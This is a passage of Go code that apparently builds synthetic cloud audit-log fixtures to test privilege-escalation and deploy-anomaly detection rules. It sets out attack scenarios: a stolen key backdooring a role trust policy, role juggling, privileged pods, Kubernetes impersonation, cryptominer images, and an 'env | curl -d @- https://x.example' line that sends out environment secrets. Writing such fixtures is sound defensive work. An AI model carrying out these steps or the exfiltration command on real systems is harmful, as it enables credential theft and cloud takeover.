			"containers": []any{map[string]any{"image": "docker.io/attacker/x:latest"}}, "serviceAccount": "runtime@ml-prod.iam.gserviceaccount.com"}}}})
	expose := b.step("expose", dep, "SetIamPolicy: allUsers as run.invoker")
	b.gcp(expose, t0.Add(5*time.Minute), gcpCall{email: dep, delegation: []string{ci}, service: "run.googleapis.com", method: "google.cloud.run.v2.Services.SetIamPolicy",
		resource: "projects/ml-prod/locations/europe-west1/services/x", project: mlProd, logType: "activity", ip: ip, ua: ua, permission: "run.services.setIamPolicy",
		resourceType: "cloud_run_revision", serviceData: map[string]any{"@type": "type.googleapis.com/google.iam.v1.logging.AuditData", "policyDelta": map[string]any{
			"bindingDeltas": []any{map[string]any{"action": "ADD", "role": "roles/run.invoker", "member": "allUsers"}}}}})

	b.want("R03", ci, true, "testIamPermissions from an SA key", probe)
	b.want("R01", ci, true, "SearchAllIamPolicies is a bulk enumeration call", recon)
	b.want("R06", dep, false, "not built: R06 follows AWS AssumeRole key chains only, not GCP serviceAccountDelegationInfo", deploy)
	b.want("R07", dep, false, "not built: R07 checks AWS runtime roles only (Cloud Run's serviceAccount is not evaluated)", deploy)
	b.want("R10", dep, false, "not built: the discovery is ci-read's, the deploy deployer's; R10 does not follow the delegation chain", deploy, expose)

	tf := b.benign("b6-terraform", "deployer (via workload identity federation)", "Terraform from GitHub through WIF impersonates deployer@ and deploys daily",
		"deployer@ has a direct deploy path; no discovery")
	wif := "principal://iam.googleapis.com/projects/123456/locations/global/workloadIdentityPools/github/subject/repo:corp/infra:ref:refs/heads/main"
	for d := 0; d < 3; d++ {
		t := b.from.Add(time.Duration(d)*24*time.Hour + 3*time.Hour)
		b.gcp(tf, t, gcpCall{email: wif, service: "iamcredentials.googleapis.com", method: "GenerateAccessToken", resource: "projects/-/serviceAccounts/" + dep,
			project: mlProd, logType: "data_access", ip: "192.0.2.120", ua: "Terraform/1.9.5 google-api-go-client/0.5", permission: "iam.serviceAccounts.getAccessToken", resourceType: "service_account"})
		b.gcp(tf, t.Add(time.Minute), gcpCall{email: dep, delegation: []string{wif}, service: "run.googleapis.com", method: "google.cloud.run.v2.Services.UpdateService",
			resource: "projects/ml-prod/locations/europe-west1/services/api", project: mlProd, logType: "activity", ip: "192.0.2.120", ua: "Terraform/1.9.5 google-api-go-client/0.5",
			permission: "run.services.update", resourceType: "cloud_run_revision",
			request: map[string]any{"service": map[string]any{"template": map[string]any{"containers": []any{map[string]any{"image": fmt.Sprintf("europe-docker.pkg.dev/ml-prod/app/api:2026.11.%d", d)}},
				"serviceAccount": "runtime@ml-prod.iam.gserviceaccount.com"}}}})
	}
}

func (b *builder) gke(step string, t time.Time, delay time.Duration, email, ns, name, image string) {
	c := gcpCall{t: t, id: b.uuid(), email: email, service: "k8s.io", method: "io.k8s.apps.v1.deployments.create",
		resource: "apps/v1/namespaces/" + ns + "/deployments/" + name, project: mlProd, logType: "activity", ip: "198.51.100.33", ua: uaKubectl,
		permission: "io.k8s.apps.v1.deployments.create", resourceType: "k8s_cluster", labels: map[string]any{"cluster_name": "ml-gke", "location": "europe-west1"},
		request: map[string]any{"@type": "apps.k8s.io/v1.Deployment", "kind": "Deployment", "apiVersion": "apps/v1",
			"metadata": map[string]any{"name": name, "namespace": ns}, "spec": map[string]any{"template": map[string]any{"spec": podSpec(image, false, "", false, "")}}}}
	if delay > 0 {
		b.addDelayed("gcp-audit", step, t, delay, gcpAudit(c))
	} else {
		b.add("gcp-audit", step, t, gcpAudit(c))
	}
}

func buildE7(b *builder) {
	t0 := b.attack
	grant := b.step("grant", "alice@corp.example", "Workspace ADD_GROUP_MEMBER: alice adds herself to ml-leads (delivered 3 h late)")
	b.addDelayed("workspace", grant, t0, 3*time.Hour, workspaceActivity(wsCall{t: t0, app: "admin", actorEmail: "alice@corp.example", evType: "GROUP_SETTINGS",
		name: "ADD_GROUP_MEMBER", params: map[string]string{"GROUP_EMAIL": "ml-leads@corp.example", "USER_EMAIL": "alice@corp.example"}, ip: attackerIP, unique: b.rng.Int64N(1e18)}))
	deploy := b.step("deploy", "alice@corp.example", "GKE deployment create with a miner image, 20 minutes later")
	b.gke(deploy, t0.Add(20*time.Minute), time.Minute, "alice@corp.example", "ml", "miner", "docker.io/attacker/miner:latest")

	b.want("R04", "alice@corp.example", true, "processed before the grant arrives: alice reaches deploy only by acting as deployer@ (escalation-only-path)", deploy)
	b.want("R05", "alice@corp.example", true, "the late grant upgrades the R04 (late-grant, supersedes)", grant)

	prov := b.benign("b7-scim", "scim-provisioner@corp.example, jane", "the SCIM provisioner adds jane to ml-leads; jane deploys 30 h later",
		"the grantee deploys outside the 24 h window with a direct path")
	tb := t0.Add(-40 * time.Hour)
	b.add("workspace", prov, tb, workspaceActivity(wsCall{t: tb, app: "admin", actorEmail: "scim-provisioner@corp.example", evType: "GROUP_SETTINGS",
		name: "ADD_GROUP_MEMBER", params: map[string]string{"GROUP_EMAIL": "ml-leads@corp.example", "USER_EMAIL": "jane@corp.example"}, ip: "192.0.2.150", unique: b.rng.Int64N(1e18)}))
	b.gke(prov, tb.Add(30*time.Hour), 0, "jane@corp.example", "ml", "trainer", "europe-docker.pkg.dev/ml-prod/app/trainer:1.4")
}

func buildE8(b *builder) {
	t0 := b.attack
	sa := "system:serviceaccount:build:ci-runner"
	groups := []string{"system:serviceaccounts", "system:serviceaccounts:build", "system:authenticated"}
	extra := map[string]any{"authentication.kubernetes.io/pod-name": []any{"ci-runner-6f7b9"}, "authentication.kubernetes.io/pod-uid": []any{"2f1e0d"},
		"authentication.kubernetes.io/credential-id": []any{"JTI=7c4e"}}
	ip := "198.51.100.23"
	probe := b.step("probe", sa, "SelfSubjectRulesReview with the pod token from outside the cluster")
	b.k8s(probe, t0, k8sCall{user: sa, groups: groups, extra: extra, verb: "create", resource: "selfsubjectrulesreviews", apiGroup: "authorization.k8s.io", code: 201, ip: ip, ua: uaKubectl})
	recon := b.step("recon", sa, "RBAC listings across 12 namespaces (forbidden), cluster bindings, secrets, pods")
	t := t0.Add(20 * time.Second)
	for i, ns := range []string{"default", "build", "prod", "payments", "web", "monitoring", "kube-system", "ingress", "data", "ml", "staging", "ops"} {
		code := 403
		if ns == "build" {
			code = 200
		}
		b.k8s(recon, t.Add(time.Duration(i)*2*time.Second), k8sCall{user: sa, groups: groups, extra: extra, verb: "list", resource: "rolebindings",
			apiGroup: "rbac.authorization.k8s.io", namespace: ns, code: code, ip: ip, ua: uaKubectl})
	}
	for i, r := range []string{"clusterrolebindings", "clusterroles"} {
		b.k8s(recon, t.Add(30*time.Second+time.Duration(i)*time.Second), k8sCall{user: sa, groups: groups, extra: extra, verb: "list", resource: r,
			apiGroup: "rbac.authorization.k8s.io", code: 403, ip: ip, ua: uaKubectl})
	}
	b.k8s(recon, t.Add(35*time.Second), k8sCall{user: sa, groups: groups, extra: extra, verb: "list", resource: "secrets", namespace: "build", code: 403, ip: ip, ua: uaKubectl})
	b.k8s(recon, t.Add(36*time.Second), k8sCall{user: sa, groups: groups, extra: extra, verb: "list", resource: "pods", namespace: "build", code: 200, ip: ip, ua: uaKubectl})
	deploy := b.step("deploy", sa, "privileged pod mounting / in build")
	pod := map[string]any{"kind": "Pod", "apiVersion": "v1", "metadata": map[string]any{"name": "debug-tools", "namespace": "build"},
		"spec": podSpec("busybox:stable", true, "/", false, "")}
	b.k8s(deploy, t0.Add(3*time.Minute), k8sCall{user: sa, groups: groups, extra: extra, verb: "create", resource: "pods", namespace: "build", code: 201, ip: ip, ua: uaKubectl, body: pod,
		reason: `RBAC: allowed by RoleBinding "pod-creator/build" of Role "pod-creator" to ServiceAccount "ci-runner/build"`})

	b.want("R03", sa, true, "SelfSubjectRulesReview by a service account token", probe)
	b.want("R01", sa, true, "RBAC enumeration burst (3+ distinct actions, 12+ targets)", recon, probe)
	b.want("R08", sa, true, "privileged pod with hostPath /", deploy)
	b.want("R10", sa, true, "recon, then a deploy within 2 h", deploy)
	b.want("R04", sa, false, "model gap: the sample organisation has no Kubernetes RBAC snapshot, so the service account is an unresolved actor", deploy)
	platformDaemonSet(b, "b8-platform", t0.Add(-6*time.Hour))
}

func buildE9(b *builder) {
	t0 := b.attack
	deploy := b.step("deploy", "system:admin", "dev@corp.example creates a deployment in prod impersonating system:admin in system:masters")
	b.k8s(deploy, t0, k8sCall{user: "dev@corp.example", groups: []string{"developers", "system:authenticated"}, verb: "create", resource: "deployments",
		apiGroup: "apps", namespace: "prod", code: 201, ip: "198.51.100.44", ua: uaKubectl,
		impersonate: map[string]any{"username": "system:admin", "groups": []any{"system:masters"}},
		reason:      `RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"`,
		body: map[string]any{"kind": "Deployment", "apiVersion": "apps/v1", "metadata": map[string]any{"name": "metrics-helper", "namespace": "prod"},
			"spec": map[string]any{"template": map[string]any{"spec": podSpec("docker.io/attacker/helper:latest", false, "", false, "")}}}})
	b.want("R04", "system:admin", true, "model gap: impersonation is not in the graph, so the effective identity is unresolved (DETECTIONS §5 E9)", deploy)
	b.want("R06", "system:admin", false, "not built: Kubernetes impersonation chains (impersonatedUser) are not judged by R06", deploy)
	list := b.benign("b9-list", "dev@corp.example", "dev lists deployments in prod without impersonation", "a read")
	b.k8s(list, t0.Add(-2*time.Hour), k8sCall{user: "dev@corp.example", groups: []string{"developers", "system:authenticated"}, verb: "list", resource: "deployments",
		apiGroup: "apps", namespace: "prod", code: 200, ip: "198.51.100.44", ua: uaKubectl})
}

func buildX1(b *builder) {
	t0 := b.attack
	erin := iamUser(prodAcct, "audit/", "erin", "AKIAERIN")
	deploy := b.step("deploy", "erin", "RunTask with a command override, from a new address")
	b.ct(deploy, t0, erin, "ecs", "RunTask", map[string]any{"cluster": "prod", "taskDefinition": "app:7", "launchType": "FARGATE",
		"overrides": map[string]any{"containerOverrides": []any{map[string]any{"name": "app", "command": []any{"sh", "-c", "env | curl -d @- https://x.example"}}}}}, nil, "", uaCLI, attackerIP)
	clean := b.step("cleanup", "erin", "StopTask 3 minutes later and DeregisterTaskDefinition")
	b.ct(clean, t0.Add(3*time.Minute), erin, "ecs", "StopTask", map[string]any{"cluster": "prod", "task": "arn:aws:ecs:us-east-1:" + prodAcct + ":task/prod/e1e1e1"}, nil, "", uaCLI, attackerIP)
	b.ct(clean, t0.Add(4*time.Minute), erin, "ecs", "DeregisterTaskDefinition", map[string]any{"taskDefinition": "app:7"}, nil, "", uaCLI, attackerIP)
	b.want("R04", "erin", true, "erin (read-only auditor) has no path to deploy; the quick stop does not undo the alert", deploy)
	b.want("R10", "erin", false, "fires when one of erin's routine policy reads (background) falls within 2 h before the task: discovery then deploy by one principal", deploy)
}

func buildX2(b *builder) {
	t0 := b.attack
	apply := func(step string, t time.Time, who awsIdentity, ip string, create bool) {
		b.ct(step, t, who, "sts", "GetCallerIdentity", nil, nil, "", uaTerraform, ip)
		b.ct(step, t.Add(2*time.Second), who, "ecs", "DescribeClusters", map[string]any{"clusters": []any{"prod"}}, nil, "", uaTerraform, ip)
		b.ct(step, t.Add(3*time.Second), who, "ecs", "DescribeTaskDefinition", map[string]any{"taskDefinition": "api"}, nil, "", uaTerraform, ip)
		b.ct(step, t.Add(4*time.Second), who, "ecs", "DescribeServices", map[string]any{"cluster": "prod", "services": []any{"api"}}, nil, "", uaTerraform, ip)
		b.ct(step, t.Add(20*time.Second), who, "ecs", "RegisterTaskDefinition", map[string]any{"family": "api",
			"taskRoleArn":          "arn:aws:iam::" + prodAcct + ":role/app/AppTaskRole",
			"containerDefinitions": []any{map[string]any{"name": "api", "image": "111122223333.dkr.ecr.us-east-1.amazonaws.com/api:2026.11.4"}}}, nil, "", uaTerraform, ip)
		name := "UpdateService"
		if create {
			name = "CreateService"
		}
		b.ct(step, t.Add(25*time.Second), who, "ecs", name, map[string]any{"cluster": "prod", "serviceName": "api", "service": "api", "taskDefinition": "api:12", "desiredCount": 2}, nil, "", uaTerraform, ip)
	}
	carol := iamUser(prodAcct, "eng/", "carol", "AKIACAROL")
	deploy := b.step("deploy", "carol", "terraform apply from carol's key: caller identity, describes, RegisterTaskDefinition, CreateService")
	apply(deploy, t0, carol, "198.51.100.77", true)
	b.want("R04", "carol", true, "carol is in Deployers but an explicit deny removes every deploy path", deploy)
	pipe := b.benign("b-pipeline", "DeployRole", "the pipeline's DeployRole session runs the same apply", "DeployRole has a direct path; no discovery beyond GetCallerIdentity")
	for d := 0; d < 2; d++ {
		apply(pipe, b.from.Add(time.Duration(d)*24*time.Hour+6*time.Hour), roleSession(prodAcct, "", "DeployRole", "terraform-ci", fmt.Sprintf("ASIATFCI%06d", d)), "192.0.2.130", false)
	}
}

func buildX3(b *builder) {
	t0 := b.from.Add(2 * time.Hour) // three hours after the day-2 snapshot
	aciDeploy := func(step string, t time.Time, who string) {
		b.add("azure-activity", step, t, azureActivity(azCall{t: t, caller: who + "@corp.example", oid: entraID(who), upn: who + "@corp.example",
			appid: "04b07795-8ddb-461a-bbee-02f9e1bf7b46", op: "Microsoft.ContainerInstance/containerGroups/write", status: "Succeeded", ip: "198.51.100.60", correlation: b.uuid(),
			resourceID: "/subscriptions/" + prodSub + "/resourceGroups/apps/providers/Microsoft.ContainerInstance/containerGroups/" + who + "-job",
			body: map[string]any{"location": "westeurope", "properties": map[string]any{"containers": []any{map[string]any{"name": "job",
				"properties": map[string]any{"image": "corpacr.azurecr.io/job:1.0"}}}, "osType": "Linux"}}}))
	}
	ivan := b.step("ivan-deploy", "ivan", "ivan creates a container group in prod-sub")
	aciDeploy(ivan, t0, "ivan")
	leo := b.step("leo-deploy", "leo@corp.example", "leo creates a GKE deployment")
	b.gke(leo, t0.Add(10*time.Minute), 0, "leo@corp.example", "ml", "notebook", "europe-docker.pkg.dev/ml-prod/app/notebook:2.0")
	b.want("R05", "Ivan Petrov (contractor)", true, "no path 24 h earlier (day-1 snapshot), a path now (gained-between-snapshots)", ivan)
	b.want("R05", "leo@corp.example", true, "no path 24 h earlier (day-1 snapshot), a path now (gained-between-snapshots)", leo)
	al := b.benign("b-alice", "alice", "alice, who could deploy on both days, creates a container group the same morning",
		"a path in both snapshots")
	aciDeploy(al, t0.Add(5*time.Minute), "alice")
}

// buildX4 needs the baseline: 16 days of background (thin noise) so that
// R02 and R06's first-seen paths may fire from day 14 on. The daily benign
// look-alikes are what the baseline learns.
func buildX4(b *builder) {
	days := int(b.to.Sub(b.from) / (24 * time.Hour))
	b.attack = b.from.Add(15*24*time.Hour + 3*time.Hour) // 2026-11-17T10:00Z
	t0 := b.attack
	deployRoleArn := "arn:aws:iam::" + prodAcct + ":role/DeployRole"
	assumeResp := func(key, session string) map[string]any {
		return map[string]any{"credentials": map[string]any{"accessKeyId": key, "expiration": ts(t0.Add(time.Hour))},
			"assumedRoleUser": map[string]any{"arn": "arn:aws:sts::" + prodAcct + ":assumed-role/DeployRole/" + session, "assumedRoleId": "AROADEPLOYROLE:" + session}}
	}

	// The daily routine the baseline learns: gina (group administrator)
	// reviews the deployer groups every morning, and Jenkins sessions of
	// JumpRole assume DeployRole and run the app task.
	gina := iamUser(prodAcct, "ops/", "gina", "AKIAGINA")
	review := b.benign("b-gina-review", "gina", "gina reads the Deployers and Developers groups every morning, day 0 to 15",
		"a principal that enumerates groups every day is in the baseline: not first-seen")
	jen := b.benign("b-jenkins", "JumpRole (jenkins), DeployRole", "Jenkins assumes DeployRole and runs the app task every day, day 0 to 15",
		"the JumpRole -> DeployRole chain is in the snapshot and used daily: in the baseline, not first-seen")
	for d := 0; d < days; d++ {
		day := b.from.Add(time.Duration(d) * 24 * time.Hour)
		t := day.Add(90*time.Minute + b.jitter(30*time.Minute))
		for i, g := range []string{"Deployers", "Developers"} {
			b.ct(review, t.Add(time.Duration(i)*20*time.Second), gina, "iam", "GetGroup", map[string]any{"groupName": g}, nil, "", "console.amazonaws.com", "198.51.100.35")
		}
		t = day.Add(4*time.Hour + b.jitter(time.Hour))
		jmp := roleSession(prodAcct, "", "JumpRole", fmt.Sprintf("jenkins-%d", d), fmt.Sprintf("ASIAJENKINSJMP%03d", d))
		key := fmt.Sprintf("ASIAJENKINSDEP%03d", d)
		b.ct(jen, t, jmp, "sts", "AssumeRole", map[string]any{"roleArn": deployRoleArn, "roleSessionName": "jenkins"},
			map[string]any{"credentials": map[string]any{"accessKeyId": key}, "assumedRoleUser": map[string]any{"arn": "arn:aws:sts::" + prodAcct + ":assumed-role/DeployRole/jenkins"}},
			"", "aws-sdk-java/2.25.0", "10.0.1.40")
		b.ct(jen, t.Add(time.Minute), roleSession(prodAcct, "", "DeployRole", "jenkins", key), "ecs", "RunTask",
			map[string]any{"cluster": "prod", "taskDefinition": "app:7", "launchType": "FARGATE"}, nil, "", "aws-sdk-java/2.25.0", "10.0.1.40")
	}

	// Day 15: frank's stolen key. Quiet discovery: five calls over 15
	// minutes, far below R01's burst thresholds.
	frank := iamUser(prodAcct, "ops/", "frank", "AKIAFRANK0STOLEN")
	recon := b.step("recon", "frank", "ListRoles, GetRole, ListAttachedRolePolicies, GetPolicy, GetPolicyVersion on DeployRole over 15 minutes (frank never did discovery before)")
	for i, c := range []struct {
		name   string
		params map[string]any
	}{
		{"ListRoles", map[string]any{}},
		{"GetRole", map[string]any{"roleName": "DeployRole"}},
		{"ListAttachedRolePolicies", map[string]any{"roleName": "DeployRole"}},
		{"GetPolicy", map[string]any{"policyArn": "arn:aws:iam::" + prodAcct + ":policy/platform/DeployRolePolicy"}},
		{"GetPolicyVersion", map[string]any{"policyArn": "arn:aws:iam::" + prodAcct + ":policy/platform/DeployRolePolicy", "versionId": "v2"}},
	} {
		b.ct(recon, t0.Add(time.Duration(i)*225*time.Second), frank, "iam", c.name, c.params, nil, "", uaCLI, attackerIP)
	}
	backdoor := b.step("backdoor", "frank", "UpdateAssumeRolePolicy: DeployRole now also trusts frank and itself")
	trust := `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":["arn:aws:iam::` + prodAcct + `:role/JumpRole",` +
		`"arn:aws:iam::` + prodAcct + `:user/ops/frank","` + deployRoleArn + `"]},"Action":"sts:AssumeRole"}]}`
	b.ct(backdoor, t0.Add(20*time.Minute), frank, "iam", "UpdateAssumeRolePolicy", map[string]any{"roleName": "DeployRole", "policyDocument": trust}, nil, "", uaCLI, attackerIP)
	assume := b.step("assume", "frank", "AssumeRole DeployRole with frank's key")
	b.ct(assume, t0.Add(22*time.Minute), frank, "sts", "AssumeRole", map[string]any{"roleArn": deployRoleArn, "roleSessionName": "frank"},
		assumeResp("ASIAFRANKDEPLOY01", "frank"), "", uaCLI, attackerIP)
	s1 := roleSession(prodAcct, "", "DeployRole", "frank", "ASIAFRANKDEPLOY01")
	deploy := b.step("deploy", "DeployRole", "RegisterTaskDefinition (attacker image) and RunTask from frank's DeployRole session")
	b.ct(deploy, t0.Add(24*time.Minute), s1, "ecs", "RegisterTaskDefinition", map[string]any{"family": "metrics-agent",
		"containerDefinitions": []any{map[string]any{"name": "agent", "image": "docker.io/attacker/agent:latest"}},
		"executionRoleArn":     "arn:aws:iam::" + prodAcct + ":role/app/AppTaskRole"}, nil, "", uaCLI, attackerIP)
	b.ct(deploy, t0.Add(25*time.Minute), s1, "ecs", "RunTask", map[string]any{"cluster": "prod", "taskDefinition": "metrics-agent:1", "launchType": "FARGATE"}, nil, "", uaCLI, attackerIP)
	// Role juggling: before the 1-hour chained session expires, the
	// DeployRole session assumes DeployRole (the backdoored trust allows
	// it), and the new session deploys again.
	juggle := b.step("juggle", "DeployRole", "the DeployRole session assumes DeployRole (role juggling, 50 minutes later)")
	b.ct(juggle, t0.Add(72*time.Minute), s1, "sts", "AssumeRole", map[string]any{"roleArn": deployRoleArn, "roleSessionName": "refresh"},
		assumeResp("ASIAJUGGLEDEPLOY02", "refresh"), "", uaCLI, attackerIP)
	s2 := roleSession(prodAcct, "", "DeployRole", "refresh", "ASIAJUGGLEDEPLOY02")
	persist := b.step("persist", "DeployRole", "RunTask from the juggled session, 2 hours after the first deploy")
	b.ct(persist, t0.Add(145*time.Minute), s2, "ecs", "RunTask", map[string]any{"cluster": "prod", "taskDefinition": "metrics-agent:1", "launchType": "FARGATE"}, nil, "", uaCLI, attackerIP)

	b.want("R02", "frank", true, "frank never did group or permission discovery in 15 days of baseline (the baseline covers 14 days)", recon)
	b.want("R10", "frank", true, "discovery, then a grant (the trust-policy change) by the same key within 2 h", backdoor)
	b.wantLabel("R06", "first-seen-chain", "DeployRole", true, "frank -> DeployRole was never used in the baseline (frank reaches DeployRole in the snapshot through CanUpdateTrust, so not chain-not-in-snapshot)", assume, deploy)
	b.wantLabel("R06", "chain-not-in-snapshot", "DeployRole", true, "DeployRole -> DeployRole: the snapshot's trust policy does not let DeployRole assume itself (the backdoor came after the snapshot)", juggle, persist)
	b.want("R05", "DeployRole", false, "not built: a trust-policy change (UpdateAssumeRolePolicy) names no grantee R05 can match, and R05 keys on the deploying role, not on the session's origin (frank)", deploy, persist)
}

// buildX5 needs the deploy-volume baseline: 16 days of ci-bot's routine
// (thin background) so that R11's seven days of history are there, and the
// Tuesday 14:00 release slot has two earlier weeks by day 15.
func buildX5(b *builder) {
	ciBot := iamUser(prodAcct, "automation/", "ci-bot", "AKIACIBOT")
	const ciUA, ciIP = "aws-sdk-go-v2/1.30.1 os/linux", "192.0.2.44"
	update := func(step string, t time.Time, fn int) {
		b.ct(step, t, ciBot, "lambda", "UpdateFunctionCode20150331v2",
			map[string]any{"functionName": fmt.Sprintf("svc-%02d", fn), "s3Bucket": "ci-artifacts", "s3Key": fmt.Sprintf("svc-%02d.zip", fn)}, nil, "", ciUA, ciIP)
	}
	routine := b.benign("b-routine", "ci-bot", "ci-bot updates one to three functions an hour, 08:00-18:00 UTC on weekdays",
		"the baseline R11 learns")
	release := b.benign("b-release", "ci-bot", "the weekly release: about 30 function updates in 35 minutes every Tuesday from 14:00 UTC (Nov 3, 10 and 17)",
		"a higher volume on the usual weekday and hour: explained by the weekday-hour baseline (one earlier Tuesday on Nov 10, two on Nov 17)")
	maint := b.benign("b-maintenance", "ci-bot", "a runtime upgrade redeploys 40 functions on Saturday Nov 14, 02:00-03:00 UTC",
		"inside the configured change window for the account (CHG-2041)")
	midnight := b.from.Truncate(24 * time.Hour)
	days := int(b.to.Sub(midnight)/(24*time.Hour)) + 1
	for d := 0; d < days; d++ {
		day := midnight.Add(time.Duration(d) * 24 * time.Hour)
		if wd := day.Weekday(); wd == time.Saturday || wd == time.Sunday {
			continue
		}
		for h := 8; h < 18; h++ {
			for k := 0; k < 1+b.rng.IntN(3); k++ {
				if t := day.Add(time.Duration(h)*time.Hour + b.jitter(time.Hour)); !t.Before(b.from) && t.Before(b.to) {
					update(routine, t, b.rng.IntN(40))
				}
			}
		}
		if day.Weekday() == time.Tuesday {
			n := 28 + b.rng.IntN(5)
			for i := 0; i < n; i++ {
				update(release, day.Add(14*time.Hour+time.Duration(i)*35*time.Minute/time.Duration(n)+b.jitter(time.Minute)), i)
			}
		}
	}
	sat := midnight.Add(12 * 24 * time.Hour) // Saturday Nov 14
	for i := 0; i < 40; i++ {
		update(maint, sat.Add(2*time.Hour+time.Duration(i)*90*time.Second), i)
	}
	b.config.ChangeWindows = []rules.ChangeWindow{{Start: sat.Add(90 * time.Minute), End: sat.Add(270 * time.Minute), Scopes: []string{prodAcct},
		Reason: "CHG-2041: Lambda runtime upgrade of the svc-* functions"}}

	// Thursday Nov 12, 11:05: ci-bot's stolen key runs 40 short-lived
	// tasks (a miner each), inside ci-bot's working hours.
	b.attack = midnight.Add(10*24*time.Hour + 11*time.Hour + 5*time.Minute)
	t0 := b.attack
	spike := b.step("burst", "ci-bot", "RegisterTaskDefinition (attacker image) and 40 RunTask in 20 minutes from ci-bot's key")
	b.ct(spike, t0, ciBot, "ecs", "RegisterTaskDefinition", map[string]any{"family": "batch-worker",
		"containerDefinitions": []any{map[string]any{"name": "worker", "image": "docker.io/attacker/xmrig:latest", "cpu": 4096}}}, nil, "", uaCLI, attackerIP)
	stop := b.step("stop", "ci-bot", "each task stopped 3 minutes after it started")
	for i := 0; i < 40; i++ {
		t := t0.Add(time.Minute + time.Duration(i)*30*time.Second)
		task := fmt.Sprintf("arn:aws:ecs:us-east-1:%s:task/prod/%032x", prodAcct, b.rng.Uint64())
		b.ct(spike, t, ciBot, "ecs", "RunTask", map[string]any{"cluster": "prod", "taskDefinition": "batch-worker:1", "launchType": "FARGATE", "count": 1}, nil, "", uaCLI, attackerIP)
		b.ct(stop, t.Add(3*time.Minute), ciBot, "ecs", "StopTask", map[string]any{"cluster": "prod", "task": task}, nil, "", uaCLI, attackerIP)
	}
	b.want("R11", "ci-bot", true, "41 deploys in 21 minutes; ci-bot's 10-day baseline (about 1 an hour, the Thursday 11:00 slot seen once) puts the threshold near 14", spike)
}
